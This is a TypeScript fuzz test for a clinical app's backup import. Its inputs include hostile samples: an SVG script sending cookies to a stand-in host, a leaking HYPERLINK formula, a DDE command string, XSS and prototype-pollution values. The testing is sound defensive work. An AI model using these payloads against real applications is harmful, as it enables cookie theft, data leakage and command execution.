/**
 * The hostile-file test of issue 33, unit layer: generated and mutated files imported
 * through the real import path (RecordController.importBackup on IdbStorage, on a
 * fresh fake-indexeddb per case), onto a record holding a patient and a visit with a
 * PNG photo. The photo check is the app's own (verifiedRaster with
 * STORED_PHOTO_LIMITS), with a decoder that reads the size from the header where the
 * browser would decode. The clinician's answers: the proposed choices, and one of the
 * offered choices for every patient that needs one.
 *
 * Inputs (fast-check, seeded): random JSON and text; valid backups with values
 * dropped, duplicated, retyped and replaced anywhere (type confusion, prototype keys,
 * huge and tiny numbers, NaN-ish strings, huge strings); nesting 10 to 100,000 levels
 * deep; numbers written as 1e308, -1e308, 1e-308, 1e999; photos whose bytes are an SVG
 * with a script, an HTML page, random bytes, a GIF, a PDF, a picture larger or other
 * than declared; valid backups with edits (patients here and new, identifiers typed
 * differently, other names, visits new, the same, newer, differing, photo keys that
 * collide); assessment files, valid and hostile. For each:
 *
 * - importBackup resolves (it never throws);
 * - either the record is exactly as before (patients, visits, photos' bytes) and the
 *   notice says the import failed, with a reason in words (no internal error), or that
 *   nothing was new; or the record changed exactly as the plan with those choices says
 *   (applyImport): new and replaced visits stored with their content, the file's copies
 *   kept as new visits, new and updated patients, the counts, the notice naming them;
 *   everything else as before;
 * - every stored photo's bytes are a JPEG, PNG or WebP, its type (and its Blob's, and
 *   that of every visit's reference to it) the sniffed one, its size the one the
 *   visits referring to it state;
 * - no stored text is longer than the schema allows, and the whole record exported
 *   again is a backup the schema admits.
 *
 * HOSTILE_IMPORT_SEED changes the seed, HOSTILE_IMPORT_RUNS scales the runs (1 = the
 * default, about 2,250 cases); a failure prints the seed, the path and the case.
 */
import assert from 'node:assert/strict'
import { after, before, describe, test } from 'node:test'
// The IndexedDB classes as globals (idb needs them), then a fresh database factory per case.
import 'fake-indexeddb/auto'
import { IDBFactory } from 'fake-indexeddb'
import fc from 'fast-check'
import { openDB } from 'idb'
import { FILE_LIMITS, readFile } from '../../../../web/src/files/file-schema.js'
import {
  checkRaster,
  type DecodedImage,
  RasterError,
  STORED_PHOTO_LIMITS,
  sniffRaster,
  verifiedRaster,
} from '../../../../web/src/files/raster.js'
import { currentLocale, setLocale, t } from '../../../../web/src/i18n/index.js'
import { parseBackup } from '../../../../web/src/record/backup.js'
import { base64OfBytes } from '../../../../web/src/record/base64.js'
import { RecordController, type RecordEffects } from '../../../../web/src/record/controller.js'
import { IdbStorage } from '../../../../web/src/record/idb-storage.js'
import {
  applyImport,
  type ImportDecisions,
  type ImportPlan,
  type PatientChoice,
  proposedDecisions,
  undecided,
} from '../../../../web/src/record/import-plan.js'
import { doneText } from '../../../../web/src/record/import-text.js'
import type { PhotoRef } from '../../../../web/src/record/model.js'
import { identifierKey, newPatient, type PatientRecord, type VisitRecord } from '../../../../web/src/record/model.js'
import type { PhotoData } from '../../../../web/src/record/storage.js'
import { type AssessmentFile, assessmentFileOf } from '../../../../web/src/state/assessment-file.js'
import * as commands from '../../../../web/src/state/commands.js'
import type { Doc, View } from '../../../../web/src/state/model.js'
import { initialState } from '../../../../web/src/state/state.js'
import { createStore } from '../../../../web/src/state/store.js'
import { FIGURES, markedDoc, png } from '../fixtures.js'

const SEED = Number(process.env.HOSTILE_IMPORT_SEED ?? 33)
const SCALE = Number(process.env.HOSTILE_IMPORT_RUNS ?? 1)
const runs = (n: number) => Math.max(1, Math.round(n * SCALE))

// biome-ignore lint/suspicious/noExplicitAny: the tests reach into the JSON they mutate
type Json = any

const T0 = '2026-03-10T09:00:00.000Z'
const NOW = '2026-05-01T10:00:00.000Z'
const VIEWS: readonly View[] = ['anterior', 'posterior', 'lateral']

// ---------------------------------------------------------------------------------------------
// Bytes.

/** A JPEG's start and a frame header declaring this size (then nothing a decoder could use). */
function jpegHeader(width: number, height: number): Uint8Array<ArrayBuffer> {
  return new Uint8Array([
    0xff,
    0xd8,
    0xff,
    0xc0,
    0x00,
    0x11,
    0x08,
    height >> 8,
    height & 0xff,
    width >> 8,
    width & 0xff,
    0x03,
    ...Array(9).fill(1),
  ])
}

/** A WebP (VP8X) header declaring this size. */
function webpHeader(width: number, height: number): Uint8Array<ArrayBuffer> {
  const b = Buffer.alloc(30)
  b.write('RIFF', 0, 'latin1')
  b.writeUInt32LE(22, 4)
  b.write('WEBP', 8, 'latin1')
  b.write('VP8X', 12, 'latin1')
  b.writeUInt32LE(10, 16)
  b.writeUIntLE(width - 1, 24, 3)
  b.writeUIntLE(height - 1, 27, 3)
  return new Uint8Array(b)
}

const text = (s: string) => new Uint8Array(Buffer.from(s, 'utf8'))

const SVG_SCRIPT = text(
  '<svg xmlns="http://www.w3.org/2000/svg" width="600" height="1000"><script>globalThis.hostile=1;top.location="http://example.invalid/?"+document.cookie</script><rect width="600" height="1000"/></svg>',
)
const HTML_PAGE = text(
  '<!doctype html><html><body><script>globalThis.hostile=1</script><img src=x onerror="location=\'http://example.invalid/\'"></body></html>',
)
const GIF = new Uint8Array(Buffer.from('R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7', 'base64'))

const MAGIC: Readonly<Record<string, readonly number[]>> = {
  'image/jpeg': [0xff, 0xd8, 0xff],
  'image/png': [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a],
  'image/webp': [0x52, 0x49, 0x46, 0x46],
}

/** The browser's decoding, stood in for: the size the header states (raster.ts), or no picture at all. */
async function decodeHeader(blob: Blob): Promise<DecodedImage> {
  const checked = checkRaster(new Uint8Array(await blob.arrayBuffer()), STORED_PHOTO_LIMITS)
  if (!checked.ok) throw new RasterError(checked.problem)
  return { width: checked.width, height: checked.height, close: () => undefined }
}

// ---------------------------------------------------------------------------------------------
// Files as the app writes them.

const assessments = new Map<string, AssessmentFile>()

/**
 * The test figure of `view` as marked: the anterior view with how each marker was placed
 * (marker_origin in the file: by hand, and suggested then confirmed), the others as a file
 * saved before the app recorded it.
 */
function markedWithOrigins(view: View): Doc {
  const doc = markedDoc(view)
  if (view !== 'anterior') return doc
  const names = Object.keys(doc.markers)
  return {
    ...doc,
    markerOrigin: Object.fromEntries(names.map((name, i) => [name, i % 2 === 0 ? 'hand' : 'suggestion'] as const)),
  }
}

/** An assessment file as the app saves it: these views marked (the test figures), patient and date. */
function assessment(views: readonly View[], patientId: string, date: string): AssessmentFile {
  const key = JSON.stringify([views, patientId, date])
  let file = assessments.get(key)
  if (!file) {
    let state = initialState()
    for (const view of views) state = commands.commit(commands.setView(state, view), markedWithOrigins(view))
    state = commands.setMeta(state, { patientId, date })
    const written = assessmentFileOf(state, new Date(T0))
    assert.ok(written)
    file = written
    assessments.set(key, file)
  }
  return structuredClone(file)
}

const SEED_PATIENT = newPatient('seed-patient', 'HC-0001', T0, 'added', 'Ana Pérez', 'Escoliosis leve.')
const SEED_PHOTO_BYTES = png(FIGURES.anterior.width, FIGURES.anterior.height, 1000)
const SEED_VISIT: VisitRecord = {
  id: 'seed-visit',
  patientId: SEED_PATIENT.id,
  date: '2026-03-10',
  created: T0,
  updated: T0,
  file: assessment(['anterior'], 'HC-0001', '2026-03-10'),
  photos: {
    anterior: { key: 'seed-photo', type: 'image/png', width: FIGURES.anterior.width, height: FIGURES.anterior.height },
  },
  rev: 0,
}

interface PhotoSpec {
  readonly view: View
  /** Its key; none: one of its own (`<visit>-<view>`), as the app's keys are unique. */
  readonly key?: string
  readonly type: string
  readonly width: number
  readonly height: number
  readonly bytes: Uint8Array
}

interface PatientSpec {
  readonly id: string
  readonly identifier: string
  readonly name: string
  readonly notes: string
}

interface VisitSpec {
  readonly id: string
  readonly patient: number
  /** The record's visit as the app exports it (its assessment, date, times and photo, same key, same bytes), under this id. */
  readonly asSeed?: boolean
  readonly date: string
  readonly created: string
  readonly updated: string
  readonly views: readonly View[]
  readonly photos: readonly PhotoSpec[]
}

interface BackupSpec {
  readonly scope: 'visit' | 'patient' | 'record'
  readonly patients: readonly PatientSpec[]
  readonly visits: readonly VisitSpec[]
}

/** The backup file of a spec, as JSON data (each visit's patient one of the file's, by index). */
function backupData(spec: BackupSpec): Json {
  return {
    format: 'posture-metrics-record',
    version: 1,
    exported_at: NOW,
    scope: spec.scope,
    patients: spec.patients.map((p) => ({ ...p, created: T0 })),
    visits: spec.visits.map((v) => {
      const patient = spec.patients[v.patient % spec.patients.length]!
      if (v.asSeed)
        return {
          id: v.id,
          patient_id: patient.id,
          date: SEED_VISIT.date,
          created: SEED_VISIT.created,
          updated: SEED_VISIT.updated,
          assessment: structuredClone(SEED_VISIT.file),
          photos: { anterior: { ...SEED_VISIT.photos.anterior!, data: base64OfBytes(SEED_PHOTO_BYTES) } },
        }
      return {
        id: v.id,
        patient_id: patient.id,
        date: v.date,
        created: v.created,
        updated: v.updated,
        assessment: assessment(v.views, patient.identifier, v.date),
        photos: Object.fromEntries(
          v.photos.map((p) => [
            p.view,
            {
              key: p.key ?? `${v.id}-${p.view}`,
              type: p.type,
              width: p.width,
              height: p.height,
              data: base64OfBytes(p.bytes),
            },
          ]),
        ),
      }
    }),
  }
}

// ---------------------------------------------------------------------------------------------
// The generators.

const IDENTIFIERS = [
  'HC-0001',
  ' hc-0001 ',
  'HC-0002',
  'HC-0003',
  '=HYPERLINK("http://x/?d="&B2,"ver")',
  '<img src=x onerror=alert(1)>',
]
const NAMES = ['', 'Ana Pérez', 'Otra María', 'ñ'.repeat(FILE_LIMITS.chars.name)]
const NOTES = ['', 'Escoliosis leve.', 'Línea 1\nLínea 2\tfin', 'z'.repeat(FILE_LIMITS.chars.notes)]
const TIMES = [T0, '2026-01-01T00:00:00.000Z', '2026-06-01T12:00:00Z']
const SIZES: readonly (readonly [number, number])[] = [
  [FIGURES.anterior.width, FIGURES.anterior.height],
  [1, 1],
  [STORED_PHOTO_LIMITS.maxSide, STORED_PHOTO_LIMITS.maxSide],
  [640, 480],
]

const goodPhoto: fc.Arbitrary<PhotoSpec> = fc
  .record({
    view: fc.constantFrom(...VIEWS),
    // Mostly the type of the bytes; sometimes another, as a file may declare anything.
    type: fc.constantFrom('image/png', 'image/png', 'image/png', 'image/jpeg', 'image/svg+xml', 'image/gif'),
    size: fc.constantFrom(...SIZES),
    salt: fc.nat(3),
  })
  .map(({ view, type, size: [width, height], salt }) => ({
    view,
    type,
    width,
    height,
    bytes: png(width, height, salt),
  }))

/** The record's patient as the app exports it. */
const SEED_PATIENT_SPEC: PatientSpec = {
  id: SEED_PATIENT.id,
  identifier: SEED_PATIENT.identifier,
  name: SEED_PATIENT.name,
  notes: SEED_PATIENT.notes,
}

const patientSpec: fc.Arbitrary<PatientSpec> = fc.oneof(
  fc.constant(SEED_PATIENT_SPEC),
  fc.record({
    id: fc.constantFrom('seed-patient', 'p-a', 'p-b', 'p-c'),
    identifier: fc.constantFrom(...IDENTIFIERS),
    name: fc.constantFrom(...NAMES),
    notes: fc.constantFrom(...NOTES),
  }),
)

const visitSpec = (photo: fc.Arbitrary<PhotoSpec>): fc.Arbitrary<VisitSpec> =>
  fc.record({
    id: fc.constantFrom('seed-visit', 'v-1', 'v-2', 'v-3', 'v-4'),
    patient: fc.nat(),
    asSeed: fc.constantFrom(false, false, false, true),
    date: fc.constantFrom('', '2026-03-10', '2026-04-14', '2024-02-29'),
    created: fc.constantFrom(...TIMES),
    updated: fc.constantFrom(...TIMES),
    views: fc.subarray([...VIEWS], { minLength: 1 }),
    photos: fc.uniqueArray(photo, { selector: (p) => p.view, maxLength: 3 }),
  })

/** A valid backup: 1 to 3 patients (some the record's, typed otherwise or named otherwise), 0 to 4 visits with photos. */
const backupSpec = (photo: fc.Arbitrary<PhotoSpec> = goodPhoto): fc.Arbitrary<BackupSpec> =>
  fc.record({
    scope: fc.constantFrom('visit' as const, 'patient' as const, 'record' as const),
    // Identifiers unique by key too: a file with one twice is refused at once (the mutations try that).
    patients: fc
      .uniqueArray(patientSpec, { selector: (p) => p.id, minLength: 1, maxLength: 3 })
      .filter((ps) => new Set(ps.map((p) => identifierKey(p.identifier))).size === ps.length),
    visits: fc.uniqueArray(visitSpec(photo), { selector: (v) => v.id, maxLength: 4 }),
  })

/** Photo bytes that are no photo, or not the one declared, with what they declare. */
const hostilePhoto: fc.Arbitrary<PhotoSpec> = fc
  .record({
    view: fc.constantFrom(...VIEWS),
    type: fc.constantFrom('image/png', 'image/jpeg', 'image/webp', 'image/svg+xml', 'image/gif'),
    size: fc.constantFrom<readonly [number, number]>([600, 1000], [1, 1], [2400, 2400], [640, 480]),
    bytes: fc.oneof(
      fc.constant(SVG_SCRIPT),
      fc.constant(HTML_PAGE),
      fc.constant(GIF),
      fc.constant(text('%PDF-1.7\n%âãÏÓ\n1 0 obj <<>> endobj')),
      fc.constant(text('\uFEFF  <svg onload="alert(1)"/>')),
      fc.uint8Array({ minLength: 3, maxLength: 3000 }).map((b) => new Uint8Array(b)),
      // Raster magic, but a picture too large, too small, absent, or other than declared.
      fc.constant(png(0xffff_ffff, 0xffff_ffff)),
      fc.constant(png(0, 0)),
      fc.constant(png(STORED_PHOTO_LIMITS.maxSide + 1, 10)),
      fc.constant(png(2400, 2400).subarray(0, 20)),
      fc.constant(png(601, 1000)),
      fc.constant(jpegHeader(65_535, 65_535)),
      fc.constant(jpegHeader(600, 1000)),
      fc.constant(new Uint8Array([0xff, 0xd8, 0xff, 0xd9])),
      fc.constant(webpHeader(16_384, 16_384)),
      fc.constant(webpHeader(640, 480)),
      // A real PNG header after a byte: no magic at the start.
      fc.constant(new Uint8Array([0x20, ...png(600, 1000)])),
    ),
  })
  .map(({ view, type, size: [width, height], bytes }) => ({ view, type, width, height, bytes }))

/**
 * A photo under a key the record already has (another patient's photo) or that
 * another photo of the file has too, with bytes of its own: good ones, or no photo.
 */
const collidingPhoto: fc.Arbitrary<PhotoSpec> = fc
  .record({ key: fc.constantFrom('seed-photo', 'shared-1', 'shared-2'), photo: fc.oneof(goodPhoto, hostilePhoto) })
  .map(({ key, photo }) => ({ ...photo, key }))

/** Values an attacker puts anywhere. */
const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  fc.constantFrom(
    1e308,
    -1e308,
    1e-308,
    5e-324,
    -0,
    0,
    -1,
    2 ** 53,
    0.5,
    'NaN',
    'Infinity',
    '-Infinity',
    '1e308',
    '-1e308',
    '1e-308',
    '',
    ' ',
    '=cmd|" /C calc"!A0',
    '<script>globalThis.hostile=1</script>',
    'javascript:alert(1)',
    '\u0000',
    '\u202e',
    '2026-02-30',
    '9999-12-31T23:59:59.999Z',
    'image/svg+xml',
    'PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+', // <svg onload=alert(1)> in base64
    null,
    true,
    false,
    [],
    {},
    [null, null],
    [1e308, -1e308],
    JSON.parse('{"__proto__":{"polluted":1}}'),
    { constructor: { prototype: { polluted: 1 } } },
  ),
  fc.jsonValue({ maxDepth: 3 }),
  fc.integer({ min: 1, max: 40 }).map((n) => JSON.parse('['.repeat(n) + ']'.repeat(n))),
  fc.integer({ min: 100, max: 300_000 }).map((n) => 'x'.repeat(n)),
  fc.double(),
)

type Mutation =
  | { readonly kind: 'set'; readonly at: number; readonly value: unknown }
  | { readonly kind: 'delete'; readonly at: number }
  | { readonly kind: 'add'; readonly at: number; readonly key: string; readonly value: unknown }
  | { readonly kind: 'duplicate'; readonly at: number; readonly to: number }
  | { readonly kind: 'retype'; readonly at: number }

const mutation: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('set' as const), at: fc.nat(), value: hostileValue }),
  fc.record({ kind: fc.constant('delete' as const), at: fc.nat() }),
  fc.record({
    kind: fc.constant('add' as const),
    at: fc.nat(),
    key: fc.oneof(
      fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'x', 'rev', 'values'),
      fc.string(),
    ),
    value: hostileValue,
  }),
  fc.record({ kind: fc.constant('duplicate' as const), at: fc.nat(), to: fc.nat() }),
  fc.record({ kind: fc.constant('retype' as const), at: fc.nat() }),
)

/** Every path (keys and indices) to a value inside `data`. */
function pathsOf(data: unknown, prefix: (string | number)[] = []): (string | number)[][] {
  const out: (string | number)[][] = [prefix]
  if (Array.isArray(data)) {
    for (const [i, v] of data.entries()) out.push(...pathsOf(v, [...prefix, i]))
  } else if (data && typeof data === 'object')
    for (const [k, v] of Object.entries(data)) out.push(...pathsOf(v, [...prefix, k]))
  return out
}

/** The same value as another JSON type: a number as text, text as a number, an object as a list, a list as an object. */
function retyped(value: unknown): unknown {
  if (typeof value === 'number') return String(value)
  if (typeof value === 'string') return Number(value) || value.length
  if (typeof value === 'boolean') return value ? 1 : 0
  if (value === null) return 'null'
  if (Array.isArray(value)) return Object.fromEntries(value.map((v, i) => [String(i), v]))
  return Object.values(value as object)
}

/** A property whose name may be a prototype's key, as JSON.parse would make it (an own, enumerable field). */
function defineField(target: Json, key: string, value: unknown): void {
  Object.defineProperty(target, key, { value, enumerable: true, configurable: true, writable: true })
}

/** `data` with the mutations applied, each at a path picked by its index. */
function mutated(data: Json, mutations: readonly Mutation[]): Json {
  for (const m of mutations) {
    const paths = pathsOf(data)
    const path = paths[m.at % paths.length]!
    if (path.length === 0) continue
    const parent = path.slice(0, -1).reduce((v: Json, k) => v[k], data)
    const key = path.at(-1)!
    if (m.kind === 'set') defineField(parent, String(key), m.value)
    else if (m.kind === 'retype') defineField(parent, String(key), retyped(parent[key]))
    else if (m.kind === 'delete') Array.isArray(parent) ? parent.splice(Number(key), 1) : delete parent[key]
    else if (m.kind === 'duplicate') {
      // A copy of the value: next to it in a list (an entry twice), or in place of another value.
      const value = structuredClone(parent[key])
      if (Array.isArray(parent)) parent.splice(Number(key), 0, value)
      else {
        const other = paths[m.to % paths.length]!
        if (other.length === 0) continue
        const otherParent = other.slice(0, -1).reduce((v: Json, k) => v[k], data)
        defineField(otherParent, String(other.at(-1)!), value)
      }
    } else {
      const target = parent[key]
      if (target && typeof target === 'object' && !Array.isArray(target)) defineField(target, m.key, m.value)
      else defineField(parent, String(key), m.value)
    }
  }
  return data
}

// ---------------------------------------------------------------------------------------------
// One case: a record on a fresh database, an import, and what is stored before and after.

interface StoredPhoto {
  readonly key: string
  readonly type: string
  readonly blobType: string
  readonly width: number
  readonly height: number
  readonly bytes: string
}

interface Stored {
  readonly patients: PatientRecord[]
  readonly visits: VisitRecord[]
  readonly photos: StoredPhoto[]
}

let cases = 0

/** A record on a fresh database (one patient, one visit with a PNG), its controller, and what the import asked. */
class Trial {
  private clock = Date.parse(NOW)
  private ids = 0
  plan: ImportPlan | null = null
  decisions: ImportDecisions | null = null
  readonly questions: string[] = []
  readonly db = `hostile-import-${++cases}`
  storage!: IdbStorage
  controller!: RecordController
  readonly store = createStore(initialState())

  /** `pick` chooses among the choices of a patient that needs the clinician's. */
  constructor(private readonly pick: number) {}

  private effects(): RecordEffects {
    return {
      ask: {
        confirm: async (q) => {
          this.questions.push(q.id)
          return true
        },
        importPlan: async (plan) => {
          const proposed = proposedDecisions(plan)
          const patients = new Map<string, PatientChoice>(proposed.patients)
          undecided(plan, proposed).forEach((p, i) => {
            patients.set(p.file.id, p.choices[(this.pick + i) % p.choices.length]!)
          })
          this.plan = plan
          this.decisions = { patients, visits: proposed.visits }
          return this.decisions
        },
      },
      tab: 'tab-1',
      channel: null,
      storablePhoto: async () => {
        throw new Error('no photo is opened in this test')
      },
      verifyPhoto: (blob, expected) =>
        verifiedRaster(blob, expected, { limits: STORED_PHOTO_LIMITS, decode: decodeHeader }),
      urlOf: async (blob) => (sniffRaster(new Uint8Array(await blob.arrayBuffer())).ok ? 'blob:test' : null),
      download: () => undefined,
      onHide: () => undefined,
      liveTabs: async () => new Set(['tab-1']),
      now: () => new Date(this.clock),
      newId: () => `new-${++this.ids}`,
    }
  }

  async open(): Promise<void> {
    globalThis.indexedDB = new IDBFactory()
    this.storage = await IdbStorage.open(this.db)
    await this.storage.restore(
      [SEED_PATIENT],
      [SEED_VISIT],
      [
        {
          key: 'seed-photo',
          type: 'image/png',
          width: FIGURES.anterior.width,
          height: FIGURES.anterior.height,
          blob: new Blob([SEED_PHOTO_BYTES], { type: 'image/png' }),
        } satisfies PhotoData,
      ],
    )
    this.controller = new RecordController(this.store, this.storage, async () => undefined, this.effects())
    await this.controller.start()
  }

  async close(): Promise<void> {
    await this.controller.stop()
    this.storage.close()
  }

  /** Everything the record's stores hold that an import may touch: patients, visits, photos with their bytes. */
  async stored(): Promise<Stored> {
    const db = await openDB(this.db)
    try {
      const patients = (await db.getAll('patients')) as PatientRecord[]
      const visits = (await db.getAll('visits')) as VisitRecord[]
      const photos: StoredPhoto[] = []
      // Photos are stored as their bytes with their type (a Blob in rows written before).
      for (const p of (await db.getAll('photos')) as (PhotoRef & { bytes?: ArrayBuffer; blob?: Blob })[])
        photos.push({
          key: p.key,
          type: p.type,
          blobType: p.blob ? p.blob.type : p.type,
          width: p.width,
          height: p.height,
          bytes: Buffer.from(p.bytes ?? (await p.blob!.arrayBuffer())).toString('base64'),
        })
      const byId = <T extends { id: string }>(a: T, b: T) => a.id.localeCompare(b.id)
      return {
        patients: patients.sort(byId),
        visits: visits.sort(byId),
        photos: photos.sort((a, b) => a.key.localeCompare(b.key)),
      }
    } finally {
      db.close()
    }
  }

  notice(): string {
    return this.store.get().notice?.text ?? ''
  }
}

/** What may be said of an internal error reaching the clinician in place of a reason. */
const INTERNAL =
  /TypeError|RangeError|SyntaxError: (?!JSON)|ReferenceError|Maximum call stack|\bundefined\b|\[object |is not a function|Cannot read prop/

/**
 * Imports `content` as the file `name` onto a fresh record and checks what the
 * import did (the header comment's list). Returns how it ended, for the statistics.
 */
async function importChecked(
  name: string,
  content: string | Uint8Array,
  pick = 0,
  inspect: (after: Stored, outcome: Outcome, notice: string) => void = () => undefined,
): Promise<Outcome> {
  const trial = new Trial(pick)
  await trial.open()
  try {
    const before = await trial.stored()
    try {
      await trial.controller.importBackup(new File([content as BlobPart], name), trial.controller.effects.ask)
    } catch (error) {
      assert.fail(`importBackup threw: ${error instanceof Error ? (error.stack ?? error.message) : String(error)}`)
    }
    const after = await trial.stored()
    const notice = trial.notice()
    const failed = t('record.import.failed', { name, reason: '' })
    let outcome: Outcome
    if (notice.startsWith(failed)) {
      const reason = notice.slice(failed.length)
      assert.ok(reason.trim().length > 0, `a reason is given: ${notice}`)
      assert.doesNotMatch(reason, INTERNAL, 'the reason is about the file, in words, not an internal error')
      assert.deepEqual(after, before, `refused, and the record is unchanged (${notice})`)
      outcome = 'refused'
    } else if (notice === t('record.import.nothing', { name })) {
      assert.deepEqual(after, before, 'nothing new, and the record is unchanged')
      outcome = 'nothing new'
    } else {
      assert.ok(trial.plan && trial.decisions, `the plan was shown before anything was written (notice: ${notice})`)
      const write = applyImport(trial.plan, trial.decisions, () => '?')
      assert.equal(notice, doneText(name, write.counts), 'the notice says what was written')
      const text = typeof content === 'string' ? content : new TextDecoder().decode(content)
      writtenAsPlanned(before, after, write, parseBackup(text, NOW, () => '?').photos)
      outcome = write.visits.length + write.patients.length > 0 ? 'imported' : 'nothing written'
    }
    storedHolds(after)
    inspect(after, outcome, notice)
    // The record before is the seed's (checked once in the first test); a changed one is checked whole.
    if (outcome === 'imported') await exportedAdmitted(trial)
    return outcome
  } finally {
    await trial.close()
  }
}

type Outcome = 'refused' | 'nothing new' | 'imported' | 'nothing written'

/** The record after the import is the record before with exactly what applyImport says written. */
function writtenAsPlanned(
  before: Stored,
  after: Stored,
  write: ReturnType<typeof applyImport>,
  filePhotos: readonly { readonly data: string }[],
): void {
  const counts = write.counts
  // Patients: the new ones (by identifier key: an id taken here gets a new one), the updated ones, the rest unchanged.
  assert.equal(
    after.patients.length,
    before.patients.length + counts.patientsNew,
    'patients: as many more as planned new',
  )
  const afterByKey = new Map(after.patients.map((p) => [p.key, p]))
  const patientId = new Map<string, string>()
  for (const p of write.patients) {
    const stored = afterByKey.get(p.key)
    assert.ok(stored, `patient ${JSON.stringify(p.identifier)} is stored`)
    const { id, ...details } = p
    const { id: storedId, ...storedDetails } = stored
    assert.deepEqual(storedDetails, details, `patient ${JSON.stringify(p.identifier)} as the plan wrote it`)
    if (id !== '?') assert.equal(storedId, id)
    patientId.set(id, storedId)
  }
  const written = new Set(write.patients.map((p) => p.key))
  for (const p of before.patients)
    if (!written.has(p.key))
      assert.deepEqual(
        after.patients.find((q) => q.id === p.id),
        p,
        `patient ${p.identifier} not in the plan's writes is unchanged`,
      )

  // Visits: new and replaced ones by id with the file's content, copies (new ids) by content, the rest unchanged.
  assert.equal(
    after.visits.length,
    before.visits.length + counts.visitsNew + counts.visitsCopied,
    'visits: as many more as planned new and kept as copies',
  )
  const content = (v: VisitRecord, owner = v.patientId) =>
    JSON.stringify([owner, v.date, v.created, v.updated, v.file, sortedRefs(v)])
  const beforeIds = new Set(before.visits.map((v) => v.id))
  const copies = new Map<string, number>()
  const replacedOrNew = new Set<string>()
  for (const v of write.visits) {
    const owner = patientId.get(v.patientId) ?? v.patientId
    if (v.id === '?') {
      const c = content(v, owner)
      copies.set(c, (copies.get(c) ?? 0) + 1)
      continue
    }
    replacedOrNew.add(v.id)
    const stored = after.visits.find((s) => s.id === v.id)
    assert.ok(stored, `visit ${v.id} is stored`)
    assert.equal(content(stored), content(v, owner), `visit ${v.id} as the file has it`)
    const was = before.visits.find((s) => s.id === v.id)
    assert.ok(stored.rev > (was?.rev ?? 0), `visit ${v.id}: a new revision`)
  }
  for (const v of after.visits) {
    if (beforeIds.has(v.id) || replacedOrNew.has(v.id)) continue
    const c = content(v)
    const left = copies.get(c) ?? 0
    assert.ok(left > 0, `visit ${v.id} was written, and the plan wrote no such copy`)
    copies.set(c, left - 1)
  }
  assert.ok(
    [...copies.values()].every((n) => n === 0),
    'every copy the plan wrote is stored',
  )
  for (const v of before.visits)
    if (!replacedOrNew.has(v.id))
      assert.deepEqual(
        after.visits.find((s) => s.id === v.id),
        v,
        `visit ${v.id} not replaced is unchanged`,
      )

  // Photos: every one there before, as it was; the new ones, the file's bytes.
  const afterPhotos = new Map(after.photos.map((p) => [p.key, p]))
  for (const p of before.photos) assert.deepEqual(afterPhotos.get(p.key), p, `photo ${p.key} there before is unchanged`)
  const beforeKeys = new Set(before.photos.map((p) => p.key))
  // A new photo is one of the file's (under its own key, or a new one where the record held other bytes under it).
  const fileBytes = new Set(filePhotos.map((p) => Buffer.from(p.data, 'base64').toString('base64')))
  for (const p of after.photos) {
    if (beforeKeys.has(p.key)) continue
    assert.ok(fileBytes.has(p.bytes), `photo ${p.key}: bytes of a photo of the file`)
  }
}

/** A visit's photo references, views in order, without the type (held to the stored photo's by storedHolds). */
/**
 * A visit's photo references without their keys: a photo whose key the record already
 * holds for other bytes is stored under a key of its own (storedHolds checks each
 * reference against the photo it names).
 */
function sortedRefs(v: VisitRecord): unknown {
  return VIEWS.flatMap((view) => {
    const ref = v.photos[view]
    return ref ? [[view, ref.width, ref.height]] : []
  })
}

/** What holds of any record: photos verified raster, of the size and type their visits state; texts within the schema's limits. */
function storedHolds(stored: Stored): void {
  const photos = new Map(stored.photos.map((p) => [p.key, p]))
  for (const p of stored.photos) {
    const bytes = Buffer.from(p.bytes, 'base64')
    const sniffed = sniffRaster(bytes)
    assert.ok(sniffed.ok, `stored photo ${p.key} is a JPEG, PNG or WebP by its bytes`)
    assert.deepEqual([...bytes.subarray(0, MAGIC[sniffed.type]!.length)], MAGIC[sniffed.type])
    assert.equal(p.type, sniffed.type, `stored photo ${p.key}: its type is the sniffed one`)
    assert.equal(p.blobType, sniffed.type, `stored photo ${p.key}: its Blob's type is the sniffed one`)
    const checked = checkRaster(bytes, STORED_PHOTO_LIMITS)
    assert.ok(checked.ok, `stored photo ${p.key} is within the stored photos' limits`)
    assert.deepEqual([p.width, p.height], [checked.width, checked.height], `stored photo ${p.key}: its size`)
  }
  for (const v of stored.visits)
    for (const [view, ref] of Object.entries(v.photos)) {
      const photo = photos.get(ref.key)
      assert.ok(photo, `visit ${v.id}'s ${view} photo is stored`)
      assert.deepEqual(
        [ref.type, ref.width, ref.height],
        [photo.type, photo.width, photo.height],
        `visit ${v.id}'s ${view} photo: the type and size of the photo stored`,
      )
    }
  const c = FILE_LIMITS.chars
  for (const p of stored.patients) {
    assert.ok(p.id.length <= c.id && p.identifier.length <= c.identifier, `patient ${p.id}: id and identifier`)
    assert.ok(p.name.length <= c.name && p.notes.length <= c.notes, `patient ${p.id}: name and notes`)
  }
  for (const v of stored.visits) {
    assert.ok(v.id.length <= c.id && v.patientId.length <= c.id, `visit ${v.id}: ids`)
    assert.ok(
      pathsOf(v).every((path) => {
        const value = path.reduce((o: Json, k) => o[k], v)
        return typeof value !== 'string' || value.length <= c.notes
      }),
      `visit ${v.id}: no text longer than the schema's longest`,
    )
  }
}

/** The whole record exported again is a backup the schema admits: nothing stored is beyond a bound. */
async function exportedAdmitted(trial: Trial): Promise<void> {
  const { file } = await trial.controller.backupOf('record')
  const reading = readFile('backup', JSON.stringify(file))
  assert.ok(reading.ok, `the record exported again is admitted: ${JSON.stringify(!reading.ok && reading.problems)}`)
}

// ---------------------------------------------------------------------------------------------

const tally = new Map<string, Map<Outcome, number>>()

/** Runs a property of imports under the seed, counting how the cases ended (printed at the end). */
async function property<T>(
  label: string,
  numRuns: number,
  arbitrary: fc.Arbitrary<T>,
  file: (value: T) => { name: string; content: string | Uint8Array; pick?: number },
): Promise<void> {
  const counts = new Map<Outcome, number>()
  tally.set(label, counts)
  await fc.assert(
    fc.asyncProperty(arbitrary, async (value) => {
      const { name, content, pick } = file(value)
      const outcome = await importChecked(name, content, pick)
      counts.set(outcome, (counts.get(outcome) ?? 0) + 1)
    }),
    { seed: SEED, numRuns, path: process.env.HOSTILE_IMPORT_PATH, includeErrorInReport: true },
  )
}

